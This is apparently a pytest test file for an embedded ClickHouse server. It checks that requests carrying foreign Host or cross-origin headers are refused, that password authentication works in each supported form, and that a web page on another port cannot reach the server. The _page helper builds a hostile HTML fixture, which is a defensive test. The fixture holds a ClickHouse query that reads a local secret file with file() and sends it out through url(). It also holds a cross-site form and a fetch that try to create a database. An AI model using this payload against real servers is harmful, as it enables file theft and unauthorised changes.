"""Who may ask the embedded server: no web page of another origin, and nobody without the password."""

from __future__ import annotations

import base64
import os
import shutil
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Final
from urllib.parse import urlencode

import aiohttp
import clickhouse_connect
import pytest
import pytest_asyncio
from aiohttp import web
from clickhouse_connect.driver.exceptions import DatabaseError
from multidict import CIMultiDict

from deploy.embedded.clickhouse.access import comes_from_a_page
from deploy.embedded.ports import free_port
from kybstream.errors import RunError
from kybstream.settings import ClickHouseSettings, Secret
from sinks.query import query
from tests.deploy.clickhouse.serving import Server
from tests.support.commands import Background

PASSWORD: Final = "pass & wörd"
_HERE: Final = {"Host": "127.0.0.1:8123"}
_BASIC: Final = base64.b64encode(f"default:{PASSWORD}".encode()).decode()


@pytest.mark.parametrize(
    "headers",
    [
        _HERE,
        {"Host": "localhost:8123"},
        {"Host": "LOCALHOST:8123"},
        {"Host": "[::1]:8123"},
        {"Host": "127.0.0.1"},
        {**_HERE, "Origin": "http://127.0.0.1:8123", "Sec-Fetch-Site": "same-origin"},
        {**_HERE, "Sec-Fetch-Site": "none"},
    ],
)
def test_requests_of_programs_are_served(headers: dict[str, str]) -> None:
    """A program sends neither Origin nor Sec-Fetch-Site, and names the address that it connects to."""
    assert not comes_from_a_page(CIMultiDict(headers), 8123)


@pytest.mark.parametrize(
    "headers",
    [
        {},
        {"Host": ""},
        {"Host": "evil.example:8123"},
        {"Host": "localhost.evil.example:8123"},
        {"Host": "127.0.0.1.evil.example:8123"},
        {"Host": "127.0.0.1:80"},
        {"Host": "127.0.0.1:x"},
        {"Host": "[::1"},
        {**_HERE, "Sec-Fetch-Site": "cross-site"},
        {**_HERE, "sec-fetch-site": "same-site"},  # http://localhost:3000 is of the same site
        {**_HERE, "Origin": "null"},
        {**_HERE, "Origin": "http://localhost:3000"},
        {**_HERE, "Origin": "http://localhost:8123"},
        {**_HERE, "Origin": "https://127.0.0.1:8123"},
        {**_HERE, "Origin": "https://evil.example", "Sec-Fetch-Site": "same-origin"},
    ],
)
def test_requests_of_pages_are_refused(headers: dict[str, str]) -> None:
    """By what a browser says of itself, and by the name that a page came by."""
    assert comes_from_a_page(CIMultiDict(headers), 8123)


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def locked(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[str]:
    """The URL of a server that asks for a password, started as `dev` starts it."""
    folder, port = tmp_path_factory.mktemp("locked"), free_port()
    arguments = ("--data-dir", str(folder / "data"), "--port", str(port), "--password", "env:SECRET")
    server = Background("embedded", "clickhouse", *arguments, log=folder / "log", env={"SECRET": PASSWORD})
    try:
        await server.printed("ClickHouse answers at")
        yield f"http://127.0.0.1:{port}"
        assert PASSWORD not in server.output
    finally:
        await server.close()


async def test_the_password_is_taken_in_every_way_of_clickhouse(locked: str) -> None:
    """Basic authentication, ClickHouse's headers, URL parameters; a wrong or missing one is code 516, and nothing runs."""
    ways = [
        ({}, {"Authorization": f"Basic {_BASIC}"}),
        ({}, {"X-ClickHouse-User": "default", "X-ClickHouse-Key": PASSWORD}),
        ({}, {"X-ClickHouse-Key": PASSWORD}),
        ({"user": "default", "password": PASSWORD}, {}),
        ({"password": PASSWORD}, {}),
    ]
    wrong = [
        ({}, {}),
        ({}, {"Authorization": f"Basic {base64.b64encode(b'default:').decode()}"}),
        ({}, {"Authorization": f"Basic {base64.b64encode(b'default:wrong').decode()}"}),
        ({}, {"Authorization": f"Basic {base64.b64encode(f'somebody:{PASSWORD}'.encode()).decode()}"}),
        ({}, {"Authorization": "Basic ###"}),
        ({}, {"Authorization": f"Bearer {PASSWORD}"}),
        ({}, {"X-ClickHouse-User": "default"}),
        ({}, {"X-ClickHouse-User": "somebody", "X-ClickHouse-Key": PASSWORD}),
        # What is named first counts: a right password elsewhere does not help.
        ({"password": PASSWORD}, {"X-ClickHouse-Key": "wrong"}),
        ({"user": "default", "password": "wrong"}, {}),
        ({"user": "somebody", "password": PASSWORD}, {}),
    ]
    async with aiohttp.ClientSession(locked) as http:
        for params, headers in ways:
            async with http.post("/", params=params, headers=headers, data=b"SELECT 1") as answer:
                assert (answer.status, await answer.text()) == (200, "1\n"), (params, headers)
        for params, headers in wrong:
            async with http.post("/", params=params, headers=headers, data=b"SELECT 1") as answer:
                assert answer.status == 403, (params, headers)
                assert answer.headers["X-ClickHouse-Exception-Code"] == "516"
                told = await answer.text()
            assert "Authentication failed" in told or "Invalid authentication" in told
            assert PASSWORD not in told
        for path in ("/", "/ping"):
            async with http.get(path) as answer:
                assert await answer.text() == "Ok.\n"


async def test_drivers_and_our_commands_bring_the_password(locked: str) -> None:
    """clickhouse-connect and `sql`, which tells who was refused."""
    host, _, port = locked.removeprefix("http://").partition(":")
    with clickhouse_connect.get_client(host=host, port=int(port), password=PASSWORD) as client:
        assert client.query("SELECT 1").first_row == (1,)
    with pytest.raises(DatabaseError) as refused:
        clickhouse_connect.get_client(host=host, port=int(port), password="wrong")
    assert refused.value.code == 516
    settings = ClickHouseSettings(url=locked, password=Secret(PASSWORD.encode()), database="default")
    assert (await query(settings, "SELECT 1")).rows == ((1,),)
    with pytest.raises(RunError, match="refuses user 'default'"):
        await query(ClickHouseSettings(url=locked, database="default"), "SELECT 1")


_BROWSERS: Final = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")


@pytest.mark.stack
async def test_a_page_in_a_browser_reaches_nothing(server: Server, tmp_path: Path) -> None:
    """Images, forms and scripts of a page on another port: each request is refused, and the page learns nothing."""
    found = next((path for name in _BROWSERS if (path := shutil.which(name))), None)
    if found is None:
        if os.environ.get("CI"):
            pytest.fail("there is no Chromium: apt-get install chromium")
        pytest.skip("there is no Chromium: apt-get install chromium")
    from playwright.async_api import async_playwright  # noqa: PLC0415 (slow, and only here)

    (tmp_path / "secret.txt").write_text("secret\n")
    caught: list[str] = []

    async def page(request: web.BaseRequest) -> web.Response:
        if request.path == "/favicon.ico":
            return web.Response(status=404)
        if request.path != "/":
            caught.append(request.path_qs)
            return web.Response(text="x\n")
        return web.Response(text=_page(server, str(tmp_path / "secret.txt"), request.host), content_type="text/html")

    runner = web.ServerRunner(web.Server(page))
    await runner.setup()
    try:
        site = web.TCPSite(runner, "127.0.0.1", 0)
        await site.start()
        address = runner.addresses[0]
        async with async_playwright() as playwright:
            browser = await playwright.chromium.launch(executable_path=found, args=["--disable-gpu"], chromium_sandbox=False)
            shown = await browser.new_page()
            answers: list[tuple[str, str, int]] = []
            shown.on("response", lambda answer: answers.append((answer.request.method, answer.url, answer.status)))
            await shown.goto(f"http://127.0.0.1:{address[1]}/")
            await shown.wait_for_function("window.finished === true")
            async with shown.expect_navigation():
                await shown.evaluate("document.forms[0].submit()")
            assert (await shown.inner_text("body")).strip() == (
                "This server answers only requests to its own address that no web page of another origin sends."
            )
            await browser.close()
    finally:
        await runner.cleanup()
    ours = sorted((method, status) for method, url, status in answers if url.startswith(server.url))
    assert ours == [("GET", 403), ("GET", 403), ("POST", 403), ("POST", 403)]
    assert caught == []
    with server.client() as client:
        assert client.query("SELECT count() FROM system.databases WHERE name = 'made_by_a_page'").first_row == (0,)


def _page(server: Server, file: str, here: str) -> str:
    steal = f"SELECT * FROM url('http://{here}/caught?' || file('{file}'), 'CSV', 'a String')"  # noqa: S608
    images = [f"{server.url}/?{urlencode({'query': query})}" for query in (steal, "SELECT 1")]
    make = f"{server.url}/?{urlencode({'query': 'CREATE DATABASE made_by_a_page'})}"
    return f"""<!doctype html><body><form method="post" enctype="text/plain" action="{make}"><input name="x" value="y"></form>
<script>
const drawn = {images!r}.map(source => new Promise(done => {{
  const image = new Image();
  image.onerror = image.onload = done;
  image.src = source;
}}));
const sent = fetch({make!r}, {{method: "POST", mode: "no-cors", body: "", headers: {{"Content-Type": "text/plain"}}}});
Promise.allSettled([...drawn, sent]).then(() => {{ window.finished = true; }});
</script></body>"""
